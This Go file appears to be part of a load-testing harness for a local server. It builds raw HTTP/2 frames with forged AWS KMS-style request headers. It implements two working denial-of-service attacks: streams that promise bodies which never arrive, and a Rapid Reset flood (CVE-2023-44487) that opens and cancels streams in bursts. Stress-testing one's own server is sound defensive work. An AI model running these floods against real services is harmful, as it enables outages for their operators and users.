package load

import (
	"context"
	"crypto/tls"
	"encoding/binary"
	"net"
	"strconv"
	"time"
)

// The frames of HTTP/2 that an attacker needs (RFC 9113, section 6).
const (
	frameHeaders, frameReset, frameSettings = 1, 3, 4
	flagEndStream, flagEndHeaders           = 1, 4
)

func frame(kind, flags byte, stream uint32, payload []byte) []byte {
	head := binary.BigEndian.AppendUint32(nil, uint32(len(payload))<<8|uint32(kind))
	head = append(head, flags)
	return append(binary.BigEndian.AppendUint32(head, stream), payload...)
}

// field is a header field that is not compressed (RFC 7541, section 6.2.2).
func field(block []byte, name, value string) []byte {
	block = append(block, 0)
	for _, s := range []string{name, value} {
		if len(s) < 127 {
			block = append(block, byte(len(s)))
		} else { // section 5.1; none is longer than 254
			block = append(block, 127, byte(len(s)-127)|0x80, byte((len(s)-127)>>7))
		}
		block = append(block, s...)
	}
	return block
}

// headers are those of a forged request with a body of so many octets.
func (a *attacker) headers(id string, length int) []byte {
	now := time.Now().UTC()
	var block []byte
	for _, f := range [][2]string{
		{":method", "POST"}, {":scheme", "https"}, {":path", "/"}, {":authority", a.address},
		{"content-type", "application/x-amz-json-1.1"}, {"x-amz-target", "TrentService.ListKeys"},
		{"x-amz-date", now.Format("20060102T150405Z")}, {"authorization", forgedAuthorization(id, now)}, {"content-length", strconv.Itoa(length)},
	} {
		block = field(block, f[0], f[1])
	}
	return block
}

// speak begins HTTP/2 on a connection.
func (a *attacker) speak(ctx context.Context, c net.Conn) (*tls.Conn, error) {
	config := a.trust.Clone()
	config.NextProtos, config.ServerName = []string{"h2"}, "127.0.0.1"
	secure := tls.Client(c, config)
	if err := secure.HandshakeContext(ctx); err != nil {
		return nil, err
	}
	_, err := secure.Write(append([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(frameSettings, 0, 0, nil)...))
	return secure, err
}

// streams holds n connections, on each of which so many requests wait for a body that does not come.
func (a *attacker) streams(ctx context.Context, n, each int) {
	a.hold2(ctx, n, func(open context.Context, c net.Conn) {
		for stream := range each {
			if _, err := c.Write(frame(frameHeaders, flagEndHeaders, uint32(2*stream+1), a.headers(a.known, 60_000))); err != nil {
				return
			}
			a.did.Add(1)
		}
	})
}

// resets holds n connections, on which requests are made and taken back at once (CVE-2023-44487), so many at a turn.
func (a *attacker) resets(ctx context.Context, n, atATime int) {
	a.hold2(ctx, n, func(open context.Context, c net.Conn) {
		block := a.headers(a.known, 0)
		for stream := uint32(1); a.turn(open); {
			var frames []byte
			for range atATime {
				frames = append(frames, frame(frameHeaders, flagEndHeaders|flagEndStream, stream, block)...)
				frames = append(frames, frame(frameReset, 0, stream, []byte{0, 0, 0, 8})...)
				stream += 2
			}
			a.did.Add(int64(atATime))
			written, err := c.Write(frames)
			a.octets.Add(int64(written))
			if err != nil {
				return
			}
		}
	})
}

// hold2 is hold for connections of HTTP/2.
func (a *attacker) hold2(ctx context.Context, n int, talk func(open context.Context, c net.Conn)) {
	a.loop(ctx, n, func(number int) {
		raw, err := a.dial(ctx, number)
		if err != nil {
			a.refused.Add(1)
			return
		}
		defer raw.Close() //nolint:errcheck // it was closed to end it
		c, err := a.speak(ctx, raw)
		if err != nil {
			a.refused.Add(1)
			return
		}
		a.stay(ctx, c, func(open context.Context) { talk(open, c) })
	})
}
